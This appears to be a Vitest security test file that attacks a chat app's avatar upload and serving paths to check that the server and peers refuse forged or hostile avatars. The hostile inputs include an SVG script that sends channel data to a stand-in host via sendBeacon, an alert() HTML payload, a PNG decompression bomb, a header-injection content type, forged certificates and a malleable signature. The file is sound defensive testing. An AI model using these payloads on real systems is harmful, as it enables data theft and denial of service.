// Outsider attack on avatars, written from README.md ("Avatars", "Local API"), docs/PROTOCOL.md
// (§1, §2.1, §3.2-3.3, §7, §9.5), docs/SECURITY.md ("Files and avatars") and
// docs/local-api.openapi.json alone. It plays the hostile side with real processes: a real
// `bin/hchat server`, real peers, and raw TLS links to the server that sign avatars as §9.5 says
// (or almost: the attacks).
import { execFileSync } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  b64u,
  readAnswer,
  certClaims,
  killAll,
  newKey,
  registerLogin,
  serverHello,
  sleep,
  startPeer,
  startServer,
  uuid7,
} from './lib.js';
import { makeItem } from './items-lib.js';

// ---------------------------------------------------------------------------------------------
// Pictures, built byte by byte (no image library): real PNGs, and things that only look like one.

function chunk(type: string, data: Buffer) {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const td = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(td));
  return Buffer.concat([len, td, crc]);
}

const PNG_SIG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function ihdr(w: number, h: number, depth = 8, colour = 2) {
  const b = Buffer.alloc(13);
  b.writeUInt32BE(w, 0);
  b.writeUInt32BE(h, 4);
  b[8] = depth;
  b[9] = colour;
  return chunk('IHDR', b);
}

/** A real w×h RGB PNG of one colour (`seed` picks it), optionally padded to exactly `size` bytes. */
function png(w: number, h: number, seed = 1, size?: number): Buffer {
  const row = Buffer.alloc(1 + w * 3);
  for (let x = 0; x < w; x++) {
    row[1 + x * 3] = (seed * 37) & 255;
    row[2 + x * 3] = (seed * 91) & 255;
    row[3 + x * 3] = (seed * 13) & 255;
  }
  const raw = Buffer.concat(Array.from({ length: h }, () => row));
  const head = Buffer.concat([PNG_SIG, ihdr(w, h), chunk('IDAT', zlib.deflateSync(raw))]);
  const end = chunk('IEND', Buffer.alloc(0));
  if (size === undefined) return Buffer.concat([head, end]);
  // an ancillary text chunk (ignored by decoders) makes the file exactly `size` bytes
  const pad = size - head.length - end.length - 12;
  if (pad < 0) throw new Error('picture too big to pad');
  const text = Buffer.concat([Buffer.from('Comment\0', 'latin1'), Buffer.alloc(pad - 8, 0x61)]);
  const out = Buffer.concat([head, chunk('tEXt', text), end]);
  if (out.length !== size) throw new Error('padding ' + out.length);
  return out;
}

/** A PNG that declares 65535×65535 pixels (16 GiB decoded) in a few hundred bytes. */
function pngBomb(): Buffer {
  const row = Buffer.alloc(1 + 65535 * 3);
  const some = zlib.deflateSync(Buffer.concat(Array.from({ length: 4 }, () => row)));
  return Buffer.concat([
    PNG_SIG,
    ihdr(65535, 65535),
    chunk('IDAT', some),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

const SVG_SCRIPT = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">' +
    '<script>fetch("/api/channels").then(r=>r.text()).then(t=>navigator.sendBeacon("http://127.0.0.1:9/x",t))</script>' +
    '<rect width="64" height="64" fill="red"/></svg>',
);
const HTML_SCRIPT = Buffer.from('<!doctype html><html><script>alert(document.domain)</script>');

const sha = (b: Buffer) => crypto.createHash('sha256').update(b).digest('base64url');

// ---------------------------------------------------------------------------------------------
// §9.5: `{username, type, data: base64, ts, sig, cert}`, sig over
// JSON.stringify(["hchat/avatar/1", username in lower case, type, SHA-256(picture) b64url, ts]).

interface Signer {
  key: { privateKey: crypto.KeyObject };
  cert: string;
  username: string;
}

function signAvatar(
  me: Signer,
  picture: Buffer,
  type = 'image/png',
  ts = Date.now(),
  /** What the signature covers, when it should differ from what is sent (the attacks). */
  signed: Partial<{ username: string; type: string; hash: string; ts: number }> = {},
  username = me.username,
) {
  const bytes = JSON.stringify([
    'hchat/avatar/1',
    signed.username ?? username.toLowerCase(),
    signed.type ?? type,
    signed.hash ?? sha(picture),
    signed.ts ?? ts,
  ]);
  const sig = crypto
    .sign(null, Buffer.from(bytes, 'utf8'), me.key.privateKey)
    .toString('base64url');
  return { username, type, data: picture.toString('base64'), ts, sig, cert: me.cert };
}

type Session = Awaited<ReturnType<typeof registerLogin>>;

/** A key certificate in the server's format (§2.1), but signed by a key the attacker made. */
function forgedCert(username: string, pk: string) {
  const forger = newKey();
  const claims = b64u(
    Buffer.from(
      JSON.stringify({
        typ: 'key',
        sid: 'forgedsession0000000000',
        u: username,
        r: 'user',
        pk,
        iat: Date.now(),
        exp: Date.now() + 86_400_000,
      }),
    ),
  );
  const sig = crypto.sign(null, Buffer.from(claims, 'ascii'), forger.privateKey);
  return claims + '.' + b64u(sig);
}

const REGS = ['--max-registrations-per-address', '1000'];

/** The hash the server holds for `user`, asked as any session. */
async function heldHash(s: Session, user: string): Promise<string | undefined> {
  const r = await s.c.req('avatars', { usernames: [user] });
  expect(r.error).toBeUndefined();
  return r.body.avatars.find((a: any) => a.username.toLowerCase() === user.toLowerCase())?.hash;
}

afterAll(async () => {
  await killAll();
});

// =============================================================================================
describe('avatars on the server link (PROTOCOL.md §9.5)', () => {
  let srv: Awaited<ReturnType<typeof startServer>>;
  let alice: Session;
  let bob: Session;
  let mallory: Session;
  let channel: string;
  const A = png(64, 64, 1);

  beforeAll(async () => {
    srv = await startServer(REGS);
    alice = await registerLogin(srv, 'alice');
    bob = await registerLogin(srv, 'bob');
    mallory = await registerLogin(srv, 'mallory');
    channel = uuid7();
    const made = await alice.c.req('channel_create', {
      id: channel,
      name: 'avatars',
      allowVisitors: true,
    });
    expect(made.error).toBeUndefined();
    expect((await bob.c.req('channel_join', { channelId: channel })).error).toBeUndefined();
    const set = await alice.c.req('avatar_set', { avatar: signAvatar(alice, A) });
    expect(set.error).toBeUndefined();
    expect(set.body.hash).toBe(sha(A));
  }, 60_000);

  it('a valid avatar round-trips: avatar_get gives the signed record back, byte for byte', async () => {
    const got = await bob.c.req('avatar_get', { username: 'alice' });
    expect(got.error).toBeUndefined();
    expect(Buffer.from(got.body.avatar.data, 'base64').equals(A)).toBe(true);
    expect(got.body.avatar.type).toBe('image/png');
    expect(certClaims(got.body.avatar.cert).u).toBe('alice');
  });

  it("nobody sets another user's avatar: neither signed as themselves nor replaying the victim's own record", async () => {
    const M = png(64, 64, 66);
    // §9.5: "the session's own user only (E_FORBIDDEN)"
    const asMallory = await mallory.c.req('avatar_set', {
      avatar: signAvatar(mallory, M, 'image/png', Date.now(), {}, 'alice'),
    });
    expect(asMallory.error?.code).toBe('E_FORBIDDEN');
    // alice's own, fully valid signed record, replayed from mallory's session
    const hers = (await bob.c.req('avatar_get', { username: 'alice' })).body.avatar;
    const replay = await mallory.c.req('avatar_set', { avatar: hers });
    expect(replay.error?.code).toBe('E_FORBIDDEN');
    // case games with the victim's name
    const upper = await mallory.c.req('avatar_set', {
      avatar: signAvatar(mallory, M, 'image/png', Date.now(), {}, 'ALICE'),
    });
    expect(upper.error?.code).toBe('E_FORBIDDEN');
    expect(await heldHash(bob, 'alice')).toBe(sha(A));
  });

  it("one's own name with another user's certificate, or a certificate the server never signed, is E_BAD_SIGNATURE", async () => {
    const M = png(64, 64, 67);
    // alice's certificate is public (every message carries one); mallory signs with her own key
    const stolen = signAvatar({ ...mallory, cert: alice.cert }, M);
    const r1 = await mallory.c.req('avatar_set', { avatar: stolen });
    expect(r1.error?.code).toMatch(/^E_(BAD_SIGNATURE|FORBIDDEN)$/);
    // a certificate for mallory's own key, made by mallory rather than by the server
    const forged = signAvatar({ ...mallory, cert: forgedCert('mallory', mallory.key.pk) }, M);
    const r2 = await mallory.c.req('avatar_set', { avatar: forged });
    expect(r2.error?.code).toBe('E_BAD_SIGNATURE');
    // a certificate the server made for alice's username but with mallory's key in it: not possible
    // to get; so a forged one for alice with mallory's key, sent from mallory's session
    const forgedAlice = signAvatar(
      { ...mallory, cert: forgedCert('alice', mallory.key.pk) },
      M,
      'image/png',
      Date.now(),
      {},
      'alice',
    );
    const r3 = await mallory.c.req('avatar_set', { avatar: forgedAlice });
    expect(r3.error?.code).toMatch(/^E_(BAD_SIGNATURE|FORBIDDEN)$/);
    expect(await heldHash(bob, 'mallory')).toBeUndefined();
    expect(await heldHash(bob, 'alice')).toBe(sha(A));
  });

  it('a signature that covers other bytes, another type, another time or a name not in lower case is E_BAD_SIGNATURE', async () => {
    const M = png(64, 64, 68);
    const other = png(64, 64, 69);
    const now = Date.now();
    const cases: [string, ReturnType<typeof signAvatar>][] = [
      ['other picture', signAvatar(mallory, M, 'image/png', now, { hash: sha(other) })],
      ['other type', signAvatar(mallory, M, 'image/png', now, { type: 'image/jpeg' })],
      ['other ts', signAvatar(mallory, M, 'image/png', now, { ts: now - 1 })],
      ['name case', signAvatar(mallory, M, 'image/png', now, { username: 'Mallory' })],
      [
        'bit flipped in the picture',
        (() => {
          const a = signAvatar(mallory, M);
          const b = Buffer.from(M);
          b[b.length - 20] = b[b.length - 20]! ^ 1;
          return { ...a, data: b.toString('base64') };
        })(),
      ],
      [
        'non-canonical signature (S + L)',
        (() => {
          const a = signAvatar(mallory, M);
          const s = Buffer.from(a.sig, 'base64url');
          // S is little-endian in bytes 32..63; adding L keeps it valid for lax verifiers
          const L = Buffer.from(
            'edd3f55c1a631258d69cf7a2def9de1400000000000000000000000000000010',
            'hex',
          );
          let carry = 0;
          for (let i = 0; i < 32; i++) {
            const v = s[32 + i]! + L[i]! + carry;
            s[32 + i] = v & 255;
            carry = v >> 8;
          }
          return { ...a, sig: b64u(s) };
        })(),
      ],
    ];
    for (const [what, avatar] of cases) {
      const r = await mallory.c.req('avatar_set', { avatar });
      expect(r.error?.code, what).toBe('E_BAD_SIGNATURE');
    }
    expect(await heldHash(bob, 'mallory')).toBeUndefined();
  });

  it('an old signed avatar replayed after a newer one changes nothing, and tells nobody', async () => {
    const carol = await registerLogin(srv, 'carol');
    expect((await carol.c.req('channel_join', { channelId: channel })).error).toBeUndefined();
    const t0 = Date.now() - 5_000;
    const old = signAvatar(carol, png(32, 32, 70), 'image/png', t0);
    const newer = signAvatar(carol, png(32, 32, 71), 'image/png', t0 + 1_000);
    expect((await carol.c.req('avatar_set', { avatar: old })).error).toBeUndefined();
    expect((await carol.c.req('avatar_set', { avatar: newer })).error).toBeUndefined();
    await sleep(300);
    const seen = bob.c.events.length;
    const r = await carol.c.req('avatar_set', { avatar: old });
    // §9.5: "an older ts than the one held changes nothing"
    expect(r.error?.code ?? 'ok').not.toBe('E_INTERNAL');
    await sleep(500);
    expect(await heldHash(bob, 'carol')).toBe(sha(png(32, 32, 71)));
    const got = await bob.c.req('avatar_get', { username: 'carol' });
    expect(got.body.avatar.ts).toBe(t0 + 1_000);
    const told = bob.c.events
      .slice(seen)
      .filter((e) => e.ev === 'avatar' && e.body.username === 'carol');
    expect(told.map((e) => e.body.hash)).not.toContain(sha(png(32, 32, 70)));
  });

  it('the size limit is 262,144 bytes: one more is E_FILE_TOO_LARGE, exactly that many is taken, none is refused', async () => {
    const dave = await registerLogin(srv, 'dave');
    const exact = png(16, 16, 72, 262_144);
    const over = png(16, 16, 73, 262_145);
    const r1 = await dave.c.req('avatar_set', { avatar: signAvatar(dave, over) });
    expect(r1.error?.code).toBe('E_FILE_TOO_LARGE');
    const r2 = await dave.c.req('avatar_set', { avatar: signAvatar(dave, exact) });
    expect(r2.error).toBeUndefined();
    expect(r2.body.hash).toBe(sha(exact));
    const r3 = await dave.c.req('avatar_set', {
      avatar: signAvatar(dave, Buffer.alloc(0), 'image/png', Date.now() + 1),
    });
    expect(r3.error?.code).toBe('E_BAD_REQUEST');
    expect(await heldHash(bob, 'dave')).toBe(sha(exact));
  });

  it('a peer that takes frames of 64 KiB asking for a 256 KiB avatar gets E_FRAME_TOO_LARGE for that request alone, never a bigger frame', async () => {
    // §1: a peer's maxFrame is 65,536–67,108,864; "A sender MUST NOT send a frame longer than the
    // other side's maxFrame … any other answer that would not fit is answered res {error:
    // E_FRAME_TOO_LARGE} for that request alone, and the link stays open."
    const big = await registerLogin(srv, 'bigpic');
    const exact = png(16, 16, 86, 262_144);
    expect(
      (await big.c.req('avatar_set', { avatar: signAvatar(big, exact) })).error,
    ).toBeUndefined();
    const { c } = await serverHello(srv, 65_536);
    const sizes: number[] = [];
    c.onFrame = (_f, n) => sizes.push(n);
    const k = newKey();
    const l = await c.req('login', { username: 'bob', password: bob.password, publicKey: k.pk });
    expect(l.error).toBeUndefined();
    const r = await c.req('avatar_get', { username: 'bigpic' }, 5_000);
    expect(Math.max(...sizes)).toBeLessThanOrEqual(65_536);
    expect(r.error?.code).toBe('E_FRAME_TOO_LARGE');
    const again = await c.req('avatars', { usernames: ['bigpic'] });
    expect(again.error).toBeUndefined();
    expect(c.closed).toBe(false);
    c.close();
  });

  it('only PNG, JPEG or WebP: other types are refused, naming the type', async () => {
    const erin = await registerLogin(srv, 'erin');
    const types = [
      'image/svg+xml',
      'image/gif',
      'text/html',
      'application/octet-stream',
      'image/png\r\nX-Injected: 1',
      '',
    ];
    for (const type of types) {
      const pic = type === 'image/svg+xml' || type === 'text/html' ? SVG_SCRIPT : png(8, 8, 74);
      const r = await erin.c.req('avatar_set', { avatar: signAvatar(erin, pic, type) });
      expect(r.error?.code, JSON.stringify(type)).toBe('E_BAD_REQUEST');
      expect(r.error?.message, JSON.stringify(type)).toMatch(/type/i);
    }
    expect(await heldHash(bob, 'erin')).toBeUndefined();
  });

  // Finding candidate. README/PROTOCOL §9.5: "A user's avatar is a small square picture (PNG, JPEG
  // or WebP …)"; SECURITY.md: "Avatars are PNG, JPEG or WebP only". A script document labelled
  // image/png is none of them.
  it('bytes that are not a picture of the declared type (SVG or HTML with script, a cut-off PNG) are refused', async () => {
    const frank = await registerLogin(srv, 'frank');
    const cut = png(64, 64, 75).subarray(0, 40);
    const cases: [string, Buffer, string][] = [
      ['svg as png', SVG_SCRIPT, 'image/png'],
      ['html as webp', HTML_SCRIPT, 'image/webp'],
      ['html as jpeg', HTML_SCRIPT, 'image/jpeg'],
      ['truncated png', cut, 'image/png'],
      ['png as jpeg', png(8, 8, 76), 'image/jpeg'],
    ];
    const accepted: string[] = [];
    let t = Date.now() - 10_000;
    for (const [what, pic, type] of cases) {
      const r = await frank.c.req('avatar_set', { avatar: signAvatar(frank, pic, type, t++) });
      if (!r.error) accepted.push(what);
    }
    expect(accepted).toEqual([]);
  });

  // Finding candidate: README "Avatars" and §9.5 describe a small square picture (the UI sends at
  // most 256×256); a picture that declares 65535×65535 pixels makes every co-member's browser try
  // to decode 16 GiB.
  it('a picture declaring 65535×65535 pixels (a decompression bomb) is refused', async () => {
    const gina = await registerLogin(srv, 'gina');
    const bomb = pngBomb();
    expect(bomb.length).toBeLessThan(262_144);
    const r = await gina.c.req('avatar_set', { avatar: signAvatar(gina, bomb) });
    expect(r.error?.code).toBeDefined();
  });

  it('a time more than ε ahead is E_CLOCK_SKEW; a time that is no integer is E_BAD_REQUEST', async () => {
    const hank = await registerLogin(srv, 'hank');
    const P = png(8, 8, 77);
    const r1 = await hank.c.req('avatar_set', {
      avatar: signAvatar(hank, P, 'image/png', Date.now() + 120_000),
    });
    expect(r1.error?.code).toBe('E_CLOCK_SKEW');
    for (const ts of [1.5, -1, '1700000000000', 2 ** 60]) {
      const a = signAvatar(hank, P, 'image/png', ts as number);
      const r = await hank.c.req('avatar_set', { avatar: a });
      expect(r.error?.code, String(ts)).toMatch(/^E_(BAD_REQUEST|CLOCK_SKEW)$/);
    }
    expect(await heldHash(bob, 'hank')).toBeUndefined();
  });

  // Finding. §1: "A known member of the wrong type or out of range is never ignored: in a request
  // body it is res {error: E_BAD_REQUEST}"; §9.5 `data: base64`. The server decodes leniently, so
  // "%%%%" is a picture of 0 bytes (refused when sent as ""), stored and listed, which every peer
  // then fails to read (its check of the server's answer refuses the empty picture).
  it('data that is not base64 is E_BAD_REQUEST, even when signed over what a lax decoder makes of it', async () => {
    const ivan = await registerLogin(srv, 'ivan');
    const P = png(8, 8, 78);
    const good = P.toString('base64');
    const variants = ['!!' + good, good.slice(0, 10) + '\n*\n' + good.slice(10), '%%%%'];
    const accepted: string[] = [];
    let t = Date.now() - 10_000;
    for (const data of variants) {
      const lax = Buffer.from(data, 'base64');
      const a = signAvatar(ivan, lax, 'image/png', t++);
      const r = await ivan.c.req('avatar_set', { avatar: { ...a, data } });
      if (r.error?.code !== 'E_BAD_REQUEST')
        accepted.push(
          `${JSON.stringify(data.slice(0, 16))} -> ${JSON.stringify(r.body ?? r.error)}`,
        );
    }
    // what is held now for ivan: a picture of how many bytes?
    const held = await bob.c.req('avatar_get', { username: 'ivan' });
    const bytes = held.body ? Buffer.from(held.body.avatar.data, 'base64').length : -1;
    expect({ accepted, heldBytes: bytes }).toEqual({ accepted: [], heldBytes: -1 });
  });

  it("the certificate must be a user's: a visitor's key, certified for the same name, sets nothing", async () => {
    const v = await serverHello(srv);
    const vkey = newKey();
    const vis = await v.c.req('visitor', { name: 'nameclash', publicKey: vkey.pk });
    expect(vis.error).toBeUndefined();
    const visitor = { key: vkey, cert: vis.body.cert as string, username: 'nameclash' };
    // §3.3: a visitor cannot call avatar_set at all
    const r0 = await v.c.req('avatar_set', { avatar: signAvatar(visitor, png(8, 8, 79)) });
    expect(r0.error?.code).toBe('E_VISITOR_READ_ONLY');
    // visitors see avatars
    const seen = await v.c.req('avatar_get', { username: 'alice' });
    expect(seen.error).toBeUndefined();
    // the visitor leaves; a user of the same name registers and sends the visitor's signed record
    await v.c.req('logout', {});
    v.c.close();
    await sleep(200);
    const u = await registerLogin(srv, 'nameclash');
    const r = await u.c.req('avatar_set', { avatar: signAvatar(visitor, png(8, 8, 80)) });
    expect(r.error?.code).toBe('E_BAD_SIGNATURE');
    expect(await heldHash(bob, 'nameclash')).toBeUndefined();
  });

  it("a logged-out session's certificate is refused from then on (PROTOCOL §3.3 logout)", async () => {
    const judy = await registerLogin(srv, 'judy');
    const oldKey = judy.key;
    const oldCert = judy.cert;
    expect((await judy.c.req('logout', {})).error).toBeUndefined();
    const k2 = newKey();
    const l2 = await judy.c.req('login', {
      username: 'judy',
      password: judy.password,
      publicKey: k2.pk,
    });
    expect(l2.error).toBeUndefined();
    const r = await judy.c.req('avatar_set', {
      avatar: signAvatar({ key: oldKey, cert: oldCert, username: 'judy' }, png(8, 8, 81)),
    });
    // §3.3 logout: "revokes the session (token and certificate are refused from now on …)"
    expect(r.error?.code ?? `accepted: ${JSON.stringify(r.body)}`).toMatch(
      /^E_(BAD_SIGNATURE|SESSION_INVALID|FORBIDDEN)$/,
    );
    expect(await heldHash(bob, 'judy')).toBeUndefined();
  });

  it('one record per user whatever the case of the name it is set under', async () => {
    const kim = await registerLogin(srv, 'KimCase');
    const t = Date.now() - 2_000;
    const a1 = signAvatar(kim, png(8, 8, 82), 'image/png', t, {}, 'kimcase');
    const r1 = await kim.c.req('avatar_set', { avatar: a1 });
    expect(r1.error).toBeUndefined();
    const a2 = signAvatar(kim, png(8, 8, 83), 'image/png', t + 1, {}, 'KIMCASE');
    const r2 = await kim.c.req('avatar_set', { avatar: a2 });
    expect(r2.error).toBeUndefined();
    for (const spelling of ['KimCase', 'kimcase', 'KIMCASE']) {
      const r = await bob.c.req('avatars', { usernames: [spelling] });
      expect(r.body.avatars, spelling).toHaveLength(1);
      expect(r.body.avatars[0].hash, spelling).toBe(sha(png(8, 8, 83)));
    }
  });

  it('avatar events: co-members and visitors viewing the channel hear of a change, a stranger does not', async () => {
    const v = await serverHello(srv);
    const vis = await v.c.req('visitor', { name: 'watcher', publicKey: newKey().pk });
    expect(vis.error).toBeUndefined();
    expect((await v.c.req('channel_join', { channelId: channel })).error).toBeUndefined();
    const before = { bob: bob.c.events.length, mal: mallory.c.events.length, v: v.c.events.length };
    const P = png(48, 48, 84);
    const r = await alice.c.req('avatar_set', { avatar: signAvatar(alice, P) });
    expect(r.error).toBeUndefined();
    await sleep(800);
    const avatarEv = (c: typeof bob.c, from: number) =>
      c.events.slice(from).filter((e) => e.ev === 'avatar' && e.body.username === 'alice');
    expect(avatarEv(bob.c, before.bob).map((e) => e.body.hash)).toContain(sha(P));
    expect(avatarEv(v.c, before.v).map((e) => e.body.hash)).toContain(sha(P));
    expect(avatarEv(mallory.c, before.mal)).toEqual([]);
    v.c.close();
  });

  it('who no longer shares a channel (left, or removed by the owner) hears of no avatar change', async () => {
    const owner = await registerLogin(srv, 'owner2');
    const leaver = await registerLogin(srv, 'leaver');
    const removed = await registerLogin(srv, 'removed');
    const ch = uuid7();
    expect(
      (await owner.c.req('channel_create', { id: ch, name: 'short', allowVisitors: false })).error,
    ).toBeUndefined();
    for (const u of [leaver, removed])
      expect((await u.c.req('channel_join', { channelId: ch })).error).toBeUndefined();
    // while they share it, both hear of a change
    const P1 = png(8, 8, 90);
    const mark = { l: leaver.c.events.length, r: removed.c.events.length };
    expect(
      (await owner.c.req('avatar_set', { avatar: signAvatar(owner, P1) })).error,
    ).toBeUndefined();
    await sleep(500);
    const heard = (c: typeof owner.c, from: number) =>
      c.events.slice(from).filter((e) => e.ev === 'avatar' && e.body.username === 'owner2');
    expect(heard(leaver.c, mark.l)).toHaveLength(1);
    expect(heard(removed.c, mark.r)).toHaveLength(1);
    expect((await leaver.c.req('channel_leave', { channelId: ch })).error).toBeUndefined();
    const rm = makeItem(owner, ch, { kind: 'channel', body: { change: { remove: 'removed' } } });
    const posted = await owner.c.req('post', { message: rm });
    expect(posted.error).toBeUndefined();
    await sleep(500);
    const mark2 = { l: leaver.c.events.length, r: removed.c.events.length };
    const P2 = png(8, 8, 91);
    expect(
      (
        await owner.c.req('avatar_set', {
          avatar: signAvatar(owner, P2, 'image/png', Date.now() + 5),
        })
      ).error,
    ).toBeUndefined();
    await sleep(800);
    expect(heard(leaver.c, mark2.l)).toEqual([]);
    expect(heard(removed.c, mark2.r)).toEqual([]);
  });

  it('reads: no session is E_AUTH_REQUIRED, unknown user E_NOT_FOUND, 0 or 101 names E_BAD_REQUEST, the link stays open', async () => {
    const anon = await serverHello(srv);
    const r0 = await anon.c.req('avatar_get', { username: 'alice' });
    expect(r0.error?.code).toBe('E_AUTH_REQUIRED');
    anon.c.close();
    expect((await bob.c.req('avatar_get', { username: 'nosuchuser' })).error?.code).toBe(
      'E_NOT_FOUND',
    );
    expect((await bob.c.req('avatars', { usernames: [] })).error?.code).toBe('E_BAD_REQUEST');
    const many = Array.from({ length: 101 }, (_, i) => 'u' + i);
    expect((await bob.c.req('avatars', { usernames: many })).error?.code).toBe('E_BAD_REQUEST');
    expect((await bob.c.req('avatar_get', { username: '../x' })).error?.code).toBe('E_BAD_REQUEST');
    expect((await bob.c.req('avatar_set', { avatar: { username: 'bob' } })).error?.code).toBe(
      'E_BAD_REQUEST',
    );
    expect(bob.c.closed).toBe(false);
    // and the server still serves everyone
    expect(await heldHash(bob, 'alice')).toBeDefined();
    const fresh = await registerLogin(srv, 'latecomer');
    const P = png(8, 8, 85);
    const r = await fresh.c.req('avatar_set', { avatar: signAvatar(fresh, P) });
    expect(r.error).toBeUndefined();
    expect(await heldHash(bob, 'latecomer')).toBe(sha(P));
  });
});

// =============================================================================================

async function events(
  peer: { base?: string; token?: string },
  ms: number,
): Promise<{ event: string; data: any }[]> {
  const ac = new AbortController();
  const out: { event: string; data: any }[] = [];
  const t = setTimeout(() => ac.abort(), ms);
  try {
    const r = await fetch(peer.base + '/api/events', {
      headers: { authorization: 'Bearer ' + peer.token },
      signal: ac.signal,
    });
    const reader = r.body!.getReader();
    let buf = '';
    for (;;) {
      const { value, done } = await reader.read();
      if (done) break;
      buf += Buffer.from(value).toString('utf8');
      let i;
      while ((i = buf.indexOf('\n\n')) >= 0) {
        const block = buf.slice(0, i);
        buf = buf.slice(i + 2);
        const ev = /^event: (.*)$/m.exec(block)?.[1] ?? 'message';
        const data = /^data: (.*)$/m.exec(block)?.[1];
        if (data) out.push({ event: ev, data: JSON.parse(data) });
      }
    }
  } catch {
    // aborted at the end of the window
  } finally {
    clearTimeout(t);
  }
  return out;
}

type Peer = Awaited<ReturnType<typeof startPeer>>;

async function put(peer: Peer, body: Buffer, type?: string) {
  const r = await fetch(peer.base + '/api/me/avatar', {
    method: 'PUT',
    headers: {
      authorization: 'Bearer ' + peer.token,
      ...(type !== undefined ? { 'content-type': type } : {}),
    },
    body: new Uint8Array(body),
  });
  return readAnswer(r);
}

async function get(peer: Peer, route: string) {
  const r = await fetch(peer.base + route, {
    headers: { authorization: 'Bearer ' + peer.token },
  });
  const bytes = Buffer.from(await r.arrayBuffer());
  return { status: r.status, headers: r.headers, bytes };
}

describe('avatars through the local API (README "Local API", SECURITY.md "Files and avatars")', () => {
  let srv: Awaited<ReturnType<typeof startServer>>;
  let alice: Peer;
  let bob: Peer;
  let stranger: Peer;
  let visitor: Peer;
  let channel: string;
  const A = png(64, 64, 101);

  beforeAll(async () => {
    srv = await startServer(REGS);
    [alice, bob, stranger, visitor] = await Promise.all([
      startPeer(srv),
      startPeer(srv),
      startPeer(srv),
      startPeer(srv),
    ]);
    for (const [p, name] of [
      [alice, 'alice'],
      [bob, 'bob'],
      [stranger, 'stranger'],
    ] as const) {
      expect(
        (await p.api('POST', '/api/register', { username: name, password: 'pw-' + name })).status,
      ).toBe(201);
      expect(
        (await p.api('POST', '/api/login', { username: name, password: 'pw-' + name })).status,
      ).toBe(200);
    }
    expect((await visitor.api('POST', '/api/visitor', { name: 'guest' })).status).toBe(200);
    const ch = await alice.api('POST', '/api/channels', { name: 'pics', allowVisitors: true });
    expect(ch.status).toBe(201);
    channel = ch.body.id;
    expect((await bob.api('POST', `/api/channels/${channel}/join`)).status).toBe(200);
    expect((await visitor.api('POST', `/api/channels/${channel}/join`)).status).toBe(200);
  }, 90_000);

  it('PUT then GET: the same bytes, its own image type, nosniff and a sandbox CSP; the event reaches co-members and not a stranger', async () => {
    const bobEv = events(bob, 3_000);
    const strangerEv = events(stranger, 3_000);
    await sleep(300);
    const r = await put(alice, A, 'image/png');
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ username: 'alice', hash: sha(A) });
    const listed = await bob.api('GET', '/api/avatars?users=alice,bob');
    expect(listed.status).toBe(200);
    expect(listed.body).toEqual([{ username: 'alice', hash: sha(A), ts: r.body.ts }]);
    const pic = await get(bob, `/api/avatars/alice?v=${sha(A)}`);
    expect(pic.status).toBe(200);
    expect(pic.bytes.equals(A)).toBe(true);
    expect(pic.headers.get('content-type')).toBe('image/png');
    expect(pic.headers.get('x-content-type-options')).toBe('nosniff');
    expect(pic.headers.get('content-security-policy') ?? '').toMatch(/sandbox/);
    expect(pic.headers.get('content-security-policy') ?? '').toMatch(/default-src 'none'/);
    const bobSaw = (await bobEv).filter((e) => e.event === 'avatar' || e.data?.type === 'avatar');
    expect(JSON.stringify(bobSaw)).toContain(sha(A));
    const strangerSaw = (await strangerEv).filter((e) => JSON.stringify(e).includes(sha(A)));
    expect(strangerSaw).toEqual([]);
  });

  it('other content types are refused with an error naming the type, and the avatar held is unchanged', async () => {
    const cases: [string | undefined, Buffer][] = [
      ['image/svg+xml', SVG_SCRIPT],
      ['text/html', HTML_SCRIPT],
      ['image/gif', Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1')],
      ['application/octet-stream', png(8, 8, 102)],
      [undefined, png(8, 8, 103)],
    ];
    for (const [type, body] of cases) {
      const r = await put(alice, body, type);
      expect(r.status, String(type)).toBeGreaterThanOrEqual(400);
      expect(r.status, String(type)).toBeLessThan(500);
      expect(r.body?.error?.code, String(type)).toMatch(/^E_/);
      expect(r.body?.error?.message ?? '', String(type)).toMatch(/type/i);
    }
    const listed = await bob.api('GET', '/api/avatars?users=alice');
    expect(listed.body[0]?.hash).toBe(sha(A));
  });

  it('size: 262,145 bytes is 413 E_FILE_TOO_LARGE (also 3 MiB, the peer going on), 262,144 is taken, 0 is 400', async () => {
    const over = await put(alice, png(16, 16, 104, 262_145), 'image/png');
    expect(over.status).toBe(413);
    expect(over.body?.error?.code).toBe('E_FILE_TOO_LARGE');
    const huge = await put(alice, Buffer.alloc(3 * 1024 * 1024, 1), 'image/png');
    expect(huge.status).toBe(413);
    const none = await put(alice, Buffer.alloc(0), 'image/png');
    expect(none.status).toBe(400);
    expect(none.body?.error?.code).toBe('E_BAD_REQUEST');
    const exact = png(16, 16, 105, 262_144);
    const ok = await put(alice, exact, 'image/png');
    expect(ok.status).toBe(200);
    expect(ok.body.hash).toBe(sha(exact));
    const pic = await get(bob, `/api/avatars/alice?v=${sha(exact)}`);
    expect(pic.status).toBe(200);
    expect(pic.bytes.equals(exact)).toBe(true);
    // back to the small one for the other tests
    expect((await put(alice, A, 'image/png')).status).toBe(200);
  });

  // Finding candidate, as on the server link: "Avatars are PNG, JPEG or WebP only".
  it('a script document sent as image/png is refused by the peer that signs it', async () => {
    const r1 = await put(stranger, SVG_SCRIPT, 'image/png');
    const r2 = await put(stranger, HTML_SCRIPT, 'image/webp');
    expect([r1.status, r2.status]).toEqual([400, 400]);
  });

  it('whatever got in is served as PNG, JPEG or WebP with nosniff and a sandbox CSP, never inline as a document', async () => {
    // a raw session sets a script document labelled image/png (the server took it, above)
    const raw = await registerLogin(srv, 'scripted');
    const r = await raw.c.req('avatar_set', { avatar: signAvatar(raw, SVG_SCRIPT) });
    raw.c.close();
    if (r.error) return; // refused at the server: nothing to serve
    const pic = await get(bob, '/api/avatars/scripted');
    expect(pic.status).toBe(200);
    expect(pic.headers.get('content-type')).toMatch(/^image\/(png|jpeg|webp)$/);
    expect(pic.headers.get('x-content-type-options')).toBe('nosniff');
    expect(pic.headers.get('content-security-policy') ?? '').toMatch(/sandbox/);
  });

